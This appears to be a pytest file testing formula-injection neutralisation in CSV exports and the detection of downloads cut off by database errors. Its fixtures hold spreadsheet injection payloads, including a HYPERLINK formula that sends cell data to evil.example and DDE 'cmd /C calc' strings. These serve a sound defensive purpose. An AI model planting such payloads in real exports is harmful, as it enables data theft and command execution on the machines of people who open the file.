"""Exports a spreadsheet cannot be attacked through, and downloads whose size is stated before they stream, so
one cut short by a database error is seen to be incomplete."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import threading
import time

import httpx2 as httpx
import pytest
import uvicorn
from sqlalchemy import insert, text
from typer.testing import CliRunner

from app.cli import app as cli
from app.export import FORMULA_STARTS, ROW_COUNT_HEADER, neutralise_cell, open_download
from app.models import Statement
from factories import add_article, add_statement

runner = CliRunner()
HOSTILE = {
    "quote": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "speaker": "+cmd|' /C calc'!A0",
    "conditions": "-2+3+cmd|' /C calc'!A0",
}
SOURCE, URL = "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"


def test_the_owasp_rule():
    for start in FORMULA_STARTS:
        assert neutralise_cell(start + "1+1") == "'" + start + "1+1"
    assert neutralise_cell("Norway is ready") == "Norway is ready"
    assert neutralise_cell("a=1") == "a=1" and neutralise_cell("") == ""
    assert neutralise_cell(None) is None and neutralise_cell(-0.5) == -0.5 and neutralise_cell(3) == 3
    assert neutralise_cell("\r=1") == "'\r=1"


@pytest.fixture
def hostile(session):
    article = add_article(session, source=SOURCE, url=URL, published_on=dt.date(2025, 1, 10))
    add_statement(session, "NO", "support", "2025-01-10", article=article, **HOSTILE)
    add_statement(session, "FI", "reject", "2025-01-11", quote="Finland will not send troops.")
    session.commit()
    return session


def _check_neutralised(rows: list[dict]) -> None:
    no = next(r for r in rows if r["country"] == "NO")
    for key, value in HOSTILE.items():
        assert no[key] == "'" + value
    assert (no["source"], no["url"]) == ("'" + SOURCE, "'" + URL)
    fi = next(r for r in rows if r["country"] == "FI")
    assert fi["quote"] == "Finland will not send troops."  # nothing else changes


def test_cli_csv_is_neutralised_and_json_unchanged(settings_env, hostile):
    result = runner.invoke(cli, ["export", "--format", "csv"])
    assert result.exit_code == 0
    _check_neutralised(list(csv.DictReader(io.StringIO(result.stdout))))
    data = json.loads(runner.invoke(cli, ["export", "--format", "json"]).stdout)
    no = next(d for d in data if d["country"] == "NO")
    assert {k: no[k] for k in HOSTILE} == HOSTILE and (no["source"], no["url"]) == (SOURCE, URL)


@pytest.mark.parametrize("path", ["/statements.csv", "/positions.csv?as_of=2025-02-01"])
def test_downloads_are_neutralised_and_state_their_row_count(client, hostile, path):
    r = client.get(path)
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert r.headers[ROW_COUNT_HEADER] == str(len(rows)) == "2"
    _check_neutralised(rows)
    j = client.get(path.replace(".csv", ".json"))
    assert j.headers[ROW_COUNT_HEADER] == str(len(j.json())) == "2"
    no = next(d for d in j.json() if d["country"] == "NO")
    assert {k: no[k] for k in HOSTILE} == HOSTILE


def test_a_filtered_download_counts_what_it_sends(client, hostile):
    r = client.get("/statements.csv?stance=reject")
    assert r.headers[ROW_COUNT_HEADER] == "1" and len(list(csv.DictReader(io.StringIO(r.text)))) == 1
    empty = client.get("/statements.json?country=FR")
    assert empty.headers[ROW_COUNT_HEADER] == "0" and empty.json() == []


def test_a_body_cut_by_an_error_ends_with_a_notice_and_raises(session, hostile):
    """The download's own data source failing after its first rows (as a dropped connection does)."""
    from sqlalchemy.exc import OperationalError

    def failing(s):
        def records():
            yield from ({"id": i, "country": "NO", "quote": f"row {i}"} for i in range(700))
            raise OperationalError("SELECT ...", {}, Exception("server closed the connection unexpectedly"))
        return 1000, records()

    for fmt in ("csv", "json"):
        download = open_download(session, fmt, failing)
        assert download.rows == 1000
        got: list[str] = []
        with pytest.raises(OperationalError):
            for chunk in download.chunks:
                got.append(chunk)
        body = "".join(got)
        assert body.rstrip().endswith(f"cut after 700 of 1000 {'rows' if fmt == 'csv' else 'records'} by an error "
                                      "(OperationalError); download it again")
        assert "INCOMPLETE DOWNLOAD" in body


# --- a real server, a real outage in the middle of a download ---------------------------------------------------

class _Server(uvicorn.Server):
    def install_signal_handlers(self) -> None:  # runs in a thread
        pass


@pytest.fixture
def live(app):
    server = _Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert time.monotonic() < deadline, "server did not start"
        time.sleep(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


def test_a_download_cut_by_a_database_error_is_detectably_incomplete(engine, session, db_url, live):
    """20 MB of statements; after the first chunk the database fails under the download (on Postgres its
    connection is terminated, on SQLite its file is cut), and the reader can tell the file is incomplete:
    fewer rows than the header stated, a closing notice, and a transfer that does not end cleanly."""
    rows = 10_000
    quote = "Norway is ready to send troops. " * 64  # 2 KB: more than the socket buffers hold
    session.execute(insert(Statement.__table__), [
        dict(country_iso2="NO", stance="support", stated_on=dt.date(2025, 1, 1) + dt.timedelta(days=i % 300),
             date_precision="day", quote=f"{i} {quote}", origin="machine", review_status="unreviewed", version=1,
             created_at=dt.datetime(2025, 1, 1, tzinfo=dt.UTC),
             updated_at=dt.datetime(2025, 1, 1, tzinfo=dt.UTC)) for i in range(rows)])
    session.commit()
    sqlite_file = None
    if engine.dialect.name == "sqlite":
        session.execute(text("PRAGMA wal_checkpoint(TRUNCATE)"))
        sqlite_file = engine.url.database
    session.close()
    received: list[bytes] = []
    with httpx.Client(timeout=60) as client:
        with client.stream("GET", f"{live}/statements.csv") as r:
            assert r.status_code == 200 and r.headers[ROW_COUNT_HEADER] == str(rows)
            chunks = r.iter_bytes()  # decoded: a compressed download must tell the same
            received.append(next(chunks))
            if sqlite_file:
                os.truncate(sqlite_file, 4096 * 8)
            else:
                with engine.connect() as admin:
                    admin.execute(text("SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                                       "WHERE datname = current_database() AND pid <> pg_backend_pid()"))
            with pytest.raises(httpx.HTTPError):  # the chunked body never ends properly
                for chunk in chunks:
                    received.append(chunk)
    body = b"".join(received).decode("utf-8", "replace")
    data = [line for line in body.splitlines() if line[:1].isdigit()]
    assert 0 < len(data) < rows
    assert "# INCOMPLETE DOWNLOAD: cut after" in body and f"of {rows} rows by an error" in body
